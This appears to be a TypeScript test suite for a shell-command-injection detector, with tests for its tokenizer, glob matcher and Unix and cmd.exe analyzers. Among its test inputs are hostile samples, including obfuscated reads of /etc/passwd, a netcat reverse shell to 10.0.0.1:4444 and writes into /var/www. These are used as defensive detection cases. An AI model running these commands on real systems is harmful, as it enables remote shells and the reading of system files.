// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` text, not templates
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { globMatch } from "./glob.js";
import { expandBraces, Feat, tokenizeShell } from "./tokenizer.js";
import { analyzeShell } from "./unix.js";
import { cmdWithPath } from "./windows.js";

const words = (s: string): string[][] => tokenizeShell(s).commands.map((c) => c.words.map((w) => w.text));

describe("shell tokenizer", () => {
  it("splits on separators and records them", () => {
    const p = tokenizeShell("a b; c && d | e || f & g\nh");
    assert.deepEqual(
      p.commands.map((c) => c.sep),
      ["start", ";", "&&", "|", "||", "&", "nl"],
    );
    assert.deepEqual(words("a b; c"), [["a", "b"], ["c"]]);
  });

  it("removes quotes and backslashes and marks the word obfuscated", () => {
    const p = tokenizeShell("c'a't /e\"t\"c/pa\\sswd");
    const w = p.commands[0]!.words;
    assert.equal(w[0]!.text, "cat");
    assert.equal(w[0]!.obf, true);
    assert.equal(w[1]!.text, "/etc/passwd");
  });

  it("expands unknown variables to nothing and IFS to a blank", () => {
    assert.deepEqual(words("c$@a$9t${IFS}/etc/passwd")[0], ["cat", "/etc/passwd"]);
    assert.ok(tokenizeShell("cat$IFS/x").features & Feat.Ifs);
  });

  it("remembers assignments and substrings of known variables", () => {
    assert.deepEqual(words("a=ca;b=t;$a$b ${HOME:0:1}etc")[2], ["cat", "/etc"]);
  });

  it("tokenizes substitutions as commands of their own", () => {
    const p = tokenizeShell("x$(id -u)y `uname`");
    assert.deepEqual(
      p.commands.map((c) => c.sep),
      ["start", "$(", "`"],
    );
    assert.deepEqual(
      p.commands[1]!.words.map((w) => w.text),
      ["id", "-u"],
    );
  });

  it("expands braces like bash", () => {
    assert.equal(expandBraces("{cat,/etc/passwd}").trim(), "cat /etc/passwd");
    assert.equal(expandBraces("c{a,oun}t").trim(), "cat count");
    assert.equal(expandBraces('{"a":1,"b":2}'), '{"a":1,"b":2}');
  });

  it("reports an unclosed quote", () => {
    assert.equal(tokenizeShell('x"|id').unclosedQuote, 1);
    assert.equal(tokenizeShell('"ok"').unclosedQuote, -1);
  });

  it("never throws and stays bounded on random input", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        const t0 = Date.now();
        const p = tokenizeShell(s);
        assert.ok(p.commands.length <= 64);
        analyzeShell(s, "value");
        assert.ok(Date.now() - t0 < 200);
      }),
      { numRuns: 2000 },
    );
  });

  it("never throws on shell-shaped random input", () => {
    const frag = fc.constantFrom(
      "$(",
      ")",
      "`",
      "'",
      '"',
      "\\",
      "${",
      "}",
      "{",
      ",",
      ";",
      "|",
      "&",
      "<(",
      ">",
      "<<<",
      "$IFS",
      "cat",
      " ",
      "/etc/passwd",
      "*",
      "?",
      "[a]",
      "()",
      "=",
      "a",
    );
    fc.assert(
      fc.property(fc.array(frag, { maxLength: 60 }), (parts) => {
        const s = parts.join("");
        tokenizeShell(s);
        analyzeShell(s, "value");
      }),
      { numRuns: 2000 },
    );
  });
});

describe("glob matcher", () => {
  it("matches ?, * and bracket expressions", () => {
    assert.ok(globMatch("/???/c?t", "/bin/cat"));
    assert.ok(globMatch("/e*/p*d", "/etc/passwd"));
    assert.ok(globMatch("/etc/[!q]asswd", "/etc/passwd"));
    assert.ok(globMatch("/usr/[a-z]in/bash", "/usr/bin/bash"));
    assert.ok(!globMatch("/???/c?t", "/us/cat"));
  });
  it("is bounded on pathological patterns", () => {
    const t0 = Date.now();
    globMatch("*a*a*a*a*a*a*a*a*a*a*b", "a".repeat(120));
    assert.ok(Date.now() - t0 < 100);
  });
});

describe("shell analysis", () => {
  it("flags injections and leaves prose alone", () => {
    assert.ok(analyzeShell("127.0.0.1;id", "value"));
    assert.ok(analyzeShell("x | nc 10.0.0.1 4444 -e /bin/sh", "value"));
    assert.equal(analyzeShell("my cat; my dog", "value"), null);
    assert.equal(analyzeShell("Tom & Jerry | Season 2", "value"), null);
    assert.equal(analyzeShell("$5 & more", "value"), null);
  });
});

describe("file reads as the whole value", () => {
  it("reads a file-printing command given absolute file paths only", () => {
    assert.equal(analyzeShell("cat /srv/app/config.yml", "value")?.signature, "rce.command-line");
    assert.equal(analyzeShell("tail -n 20 /var/lib/x", "value")?.signature, "rce.command-line");
    assert.equal(analyzeShell("cat /srv/app/config.yml", "none"), null);
    assert.equal(analyzeShell("cat /photos/2020", "value"), null);
    assert.equal(analyzeShell("Cat /pets/x.html", "value"), null);
  });
});

describe("redirection and cmd.exe paths", () => {
  it("reads a value that is only a write into a sensitive directory", () => {
    assert.equal(analyzeShell(">/tmp/.x", "value")?.signature, "rce.shell-redirect");
    assert.equal(analyzeShell(">> /var/www/a.php", "value")?.signature, "rce.shell-redirect");
    assert.equal(analyzeShell(">/tmp/.x", "key"), null);
    assert.equal(analyzeShell("> /home/me/notes.txt", "value"), null);
  });

  it("reads a cmd.exe built-in given a Windows path after a separator", () => {
    assert.equal(cmdWithPath("x | type %SystemDrive%\\a.ini")?.signature, "rce.cmd-command");
    assert.equal(cmdWithPath("a && copy \\\\srv\\s\\x.exe")?.signature, "rce.cmd-command");
    assert.equal(cmdWithPath("type C:\\a.ini"), null);
    assert.equal(cmdWithPath("Q&A type of C:\\ path"), null);
  });
});
